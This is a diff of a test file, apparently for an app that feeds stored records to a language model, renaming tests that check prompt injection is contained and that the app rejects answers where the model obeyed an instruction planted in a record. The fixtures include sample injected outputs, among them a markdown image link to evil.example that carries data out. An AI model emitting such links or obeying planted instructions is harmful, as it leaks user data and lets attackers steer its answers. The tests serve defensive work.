@@ -45,7 +45,7 @@ for (const [where, storage] of storages) {
     }
     const eventsOf = async () => (await pod.owner.send("GET", "/api/hub/events?limit=100")).body
 
-    it("the pod writes each source as one line in the data for the model, so that an instruction in a source stays within this line", async () => {
+    it("the pod gives each record to the language model as one line of data, so that an instruction in the record stays within this line", async () => {
       stub.reply(replies.saying("NO ANSWER"))
       await ask()
       const [{ body }] = stub.asked()
@@ -61,7 +61,7 @@ for (const [where, storage] of storages) {
       assert.notInclude(JSON.stringify(body), secret)
     })
 
-    it("if the model obeys an instruction in a source, the pod refuses the answer of the model and changes no record", async () => {
+    it("if the language model obeys an instruction in a record, the pod refuses the answer of the model and changes no record", async () => {
       const obeying: ReadonlyArray<(asked: AskedModel) => string> = [
         () => "The crane is free of charge [9].",
         () => "Crane manual [1]. ![x](https://evil.example/collect?data=4711)",
